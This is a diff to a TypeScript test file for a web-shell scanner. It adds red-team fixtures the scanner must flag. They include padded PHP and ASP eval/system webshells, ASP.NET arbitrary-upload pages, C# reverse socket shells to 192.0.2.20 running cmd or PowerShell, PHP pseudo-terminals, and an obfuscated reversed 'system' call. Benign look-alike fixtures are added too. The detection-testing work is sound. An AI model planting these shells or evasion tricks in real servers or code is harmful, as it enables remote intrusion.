@@ -28,8 +28,153 @@ const CAUGHT: [string, string, string][] = [
   ['a padded eval of a decoded POST field', '/www/d.php', `<?php @eval(base64_decode($_POST[${pad(' ', 20000)}'x']));`],
 ];
 
-// [what, path, the file]: the layers must not make these anything
+// Session 30's red team (bench/redteam/README-s30.md): runs under the squeezed layer's old bound (1,024) inside
+// a statement, padding inside an index, comments there, and right sides longer than the flow pass read. Each
+// written here as the red team did. [id, path, the file]
+const sp = (n: number) => ' '.repeat(n);
+const RED_TEAM: [string, string, string][] = [
+  ['S30R-1: 100 spaces each side of an index', '/www/q01.php', `<?php $a=$_GET[${sp(100)}'c'${sp(100)}]; system($a);`],
+  ['S30R-1: 500 spaces before an index\'s key', '/www/q01b.php', `<?php $a=$_GET[${sp(500)}'c']; system($a);`],
+  ['S30R-2: a comment inside the index', '/www/q16.php', `<?php $a=$_GET[/*${'x'.repeat(100)}*/'c']; system($a);`],
+  ['S30R-2: comment lines inside the index', '/www/q17.php', `<?php $a=$_GET[\n${'#\n'.repeat(60)}'c']; system($a);`],
+  ['S30R-3: a cookie to shell_exec', '/www/q11.php', `<?php $c=$_COOKIE[${sp(200)}'c']; echo shell_exec($c);`],
+  ['S30R-3: a field written to a PHP file', '/www/q10.php', `<?php $d=$_POST[${sp(200)}'d']; file_put_contents('x.php',$d);`],
+  ['S30R-3: a key held in a variable', '/www/q12.php', `<?php $k='c'; $a=$_GET[${sp(200)}$k]; system($a);`],
+  ['S30R-5: 700 empty literals joined before the input', '/www/q13.php', `<?php $a=${"''.".repeat(700)}$_GET['c']; system($a);`],
+  ['S30R-5: the same with 60 spaces after each', '/www/q03.php', `<?php $a=${`''.${sp(60)}`.repeat(60)}$_GET['c']; system($a);`],
+  ['S30R-6: a long literal joined before the input', '/www/q14.php', `<?php $a='${'x'.repeat(2100)}'.$_GET['c']; system($a);`],
+  ['S30R-7: a condition padded with runs under 1,024', '/www/q15.php', `<?php $a=isset($_GET['c']) ?${sp(1000)}$_GET['c']${sp(1000)}:''; system($a);`],
+  ['S30R-10: a JScript index padded', '/www/js07.aspx', `<%@ Page Language="Jscript" %><% var z = Request.Item[${sp(200)}"z"]; eval(z, "unsafe"); %>`],
+  ['S30R-11: a VBScript argument padded', '/www/v02.asp', `<% x = Request(${sp(200)}"x") : Execute(x) %>`],
+];
+
+// What the red teams of session 29 left open in the rules (S29U-30, S29U-44, S29W-20 to S29W-26), written
+// here: [what, the rule, path, the file]
+const RULED: [string, string, string, string][] = [
+  ['S29U-30: File.Create of a form field, the upload copied in', 'mamori_aspx_upload_to_request_path', '/www/u30.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.IO" %>
+<script runat="server">
+protected void Page_Load(object sender, EventArgs e) {
+  if (Request.HttpMethod == "POST" && Request.Files.Count > 0) {
+    using (var fs = File.Create(Request.Form["p"])) { Request.Files[0].InputStream.CopyTo(fs); }
+    Response.Write("ok");
+  }
+}
+</script>
+<form method="post" enctype="multipart/form-data"><input name="p"><input type="file" name="f"><input type="submit"></form>
+`],
+  ['S29U-30: a FileStream on a query field, the request body copied in', 'mamori_aspx_upload_to_request_path', '/www/u30b.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object s, EventArgs e) {
+  string path = Request.QueryString["to"];
+  if (path != null) { var fs = new System.IO.FileStream(path, System.IO.FileMode.Create); Request.InputStream.CopyTo(fs); fs.Close(); Response.Write("saved " + path); }
+}
+</script>
+`],
+  ['S29U-30: File.WriteAllBytes to a request field, the upload read', 'mamori_aspx_upload_to_request_path', '/www/u30c.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object s, EventArgs e) {
+  if (Request.Files.Count > 0) { System.IO.File.WriteAllBytes(Request["to"], new System.IO.BinaryReader(Request.Files[0].InputStream).ReadBytes(Request.Files[0].ContentLength)); }
+}
+</script>
+`],
+  ['S29W-20: a socket shell through ComSpec and String.Concat, its output written by a StreamWriter', 'mamori_aspx_socket_shell', '/www/sock1.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var c = new TcpClient("192.0.2.20", 8443); var ns = c.GetStream();
+  var rd = new StreamReader(ns); var wr = new StreamWriter(ns); wr.AutoFlush = true;
+  string line;
+  while ((line = rd.ReadLine()) != null) {
+    var psi = new ProcessStartInfo(Environment.GetEnvironmentVariable("ComSpec"), String.Concat("/c ", line));
+    psi.UseShellExecute = false; psi.RedirectStandardOutput = true;
+    var p = Process.Start(psi);
+    wr.Write(p.StandardOutput.ReadToEnd());
+  }
+}
+</script>
+`],
+  ['S29W-20, S29W-21: a socket shell through PowerShell by its full path, its output copied to the socket', 'mamori_aspx_socket_shell', '/www/sock2.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  using (var c = new TcpClient("192.0.2.20", 8443)) using (var ns = c.GetStream()) using (var rd = new StreamReader(ns)) {
+    string line;
+    while ((line = rd.ReadLine()) != null) {
+      var p = new Process();
+      p.StartInfo.FileName = @"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+      p.StartInfo.Arguments = "-c " + line;
+      p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start();
+      p.StandardOutput.BaseStream.CopyTo(ns);
+    }
+  }
+}
+</script>
+`],
+  ['S29W-24: a pseudo-terminal written with if/elseif', 'mamori_php_pseudo_terminal', '/www/pt1.php', `<?php
+session_start();
+$line = trim($_POST['line'] ?? '');
+$parts = explode(' ', $line, 2);
+$verb = $parts[0]; $arg = $parts[1] ?? '';
+$cwd = $_SESSION['cwd'] ?? getcwd();
+if ($verb === 'ls') { echo implode("\\n", scandir($cwd)); }
+elseif ($verb === 'cd') { if (is_dir("$cwd/$arg")) $_SESSION['cwd'] = realpath("$cwd/$arg"); }
+elseif ($verb === 'cat') { readfile("$cwd/$arg"); }
+elseif ($verb === 'rm') { unlink("$cwd/$arg"); }
+elseif ($verb === 'mkdir') { mkdir("$cwd/$arg"); }
+elseif ($verb === 'put') { file_put_contents("$cwd/" . basename($_FILES['f']['name']), file_get_contents($_FILES['f']['tmp_name'])); }
+echo '<form method="post"><input name="line" autofocus></form>';
+`],
+  ['S29W-25, S29W-26: a pseudo-terminal written with match, its words read from php://input', 'mamori_php_pseudo_terminal', '/www/pt2.php', `<?php
+session_start();
+[$verb, $arg] = array_pad(explode(' ', trim(file_get_contents('php://input')), 2), 2, '');
+chdir($_SESSION['cwd'] ?? __DIR__);
+echo match ($verb) {
+  'ls', 'dir' => implode("\\n", scandir('.')),
+  'cd' => ($_SESSION['cwd'] = realpath($arg)) ? 'ok' : 'no',
+  'cat' => file_get_contents($arg),
+  'rm' => unlink($arg) ? 'deleted' : 'failed',
+  'rmdir' => rmdir($arg) ? 'deleted' : 'failed',
+  'pwd' => getcwd(),
+  default => 'unknown command',
+};
+`],
+  ['S29U-44: a joined call of the pieces reversed', 'mamori_php_joined_name_call', '/www/jc1.php', `<?php
+$p = array("m", "e", "t", "s", "y", "s");
+implode('', array_reverse($p))($_GET['q']);
+`],
+];
+
+// [what, path, the file]: the layers and rules must not make these anything
 const BENIGN: [string, string, string][] = [
+  ['an ASP.NET upload saved under a fixed folder with the upload\'s own file name', '/www/up.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object s, EventArgs e) {
+  if (Request.Files.Count > 0) {
+    var f = Request.Files[0];
+    var name = System.IO.Path.GetFileName(f.FileName);
+    using (var fs = System.IO.File.Create(System.IO.Path.Combine(Server.MapPath("~/App_Data/uploads"), name))) { f.InputStream.CopyTo(fs); }
+  }
+}
+</script>`],
+  ['an ASP.NET page that pings a host the admin types and shows the output', '/www/ping.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Ping_Click(object s, EventArgs e) {
+  var psi = new System.Diagnostics.ProcessStartInfo("ping.exe", "-n 2 " + System.Net.IPAddress.Parse(Host.Text));
+  psi.UseShellExecute = false; psi.RedirectStandardOutput = true;
+  using (var p = System.Diagnostics.Process.Start(psi)) { Output.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd()); }
+}
+</script>`],
+  ['a PHP help page dispatching documentation topics named like commands', '/www/help.php', `<?php
+$topic = $_GET['topic'] ?? 'index';
+if ($topic === 'ls') { $doc = 'ls lists a folder.'; }
+elseif ($topic === 'cd') { $doc = 'cd changes the working folder.'; }
+elseif ($topic === 'rm') { $doc = 'rm deletes a file.'; }
+elseif ($topic === 'mkdir') { $doc = 'mkdir makes a folder.'; }
+elseif ($topic === 'cat') { $doc = 'cat prints a file.'; }
+else { $doc = 'Pick a topic.'; }
+echo '<p>' . htmlspecialchars($doc) . '</p>';
+`],
   ['a VBScript page whose long statements are continued', '/www/report.asp', `<%\r\nDim sql\r\nsql = "SELECT name, total " & _\r\n      "FROM orders " & _\r\n      "WHERE day = ?"\r\nSet cmd = Server.CreateObject("ADODB.Command")\r\ncmd.CommandText = sql\r\nResponse.Write "ok"\r\n%>`],
   ['a C# page saved with a byte-order mark, padded with blank lines', '/www/default.aspx', `${BOM}<%@ Page Language="C#" %>\r\n<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {${pad('\r\n')}  Label1.Text = Request.QueryString["name"] == null ? "" : Server.HtmlEncode(Request.QueryString["name"]);\r\n}\r\n</script>`],
   ['a PHP template with a long indented blank block', '/www/tpl.php', `<?php $title = htmlspecialchars($_GET['t'] ?? '');${pad('    \n')}echo "<h1>$title</h1>";`],
@@ -43,6 +188,19 @@ describe('scan: session 30, what session 29\'s red team left open', () => {
       assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
     });
   }
+  for (const [name, path, src] of RED_TEAM) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+    });
+  }
+  for (const [name, rule, path, src] of RULED) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
+    });
+  }
   for (const [name, path, src] of BENIGN) {
     it(`clean: ${name}`, () => {
       const r = scan(src, path);
@@ -51,6 +209,8 @@ describe('scan: session 30, what session 29\'s red team left open', () => {
   }
   it('ran every case', () => {
     assert.equal(CAUGHT.length, 11);
-    assert.equal(BENIGN.length, 4);
+    assert.equal(RULED.length, 8);
+    assert.equal(RED_TEAM.length, 13);
+    assert.equal(BENIGN.length, 7);
   });
 });
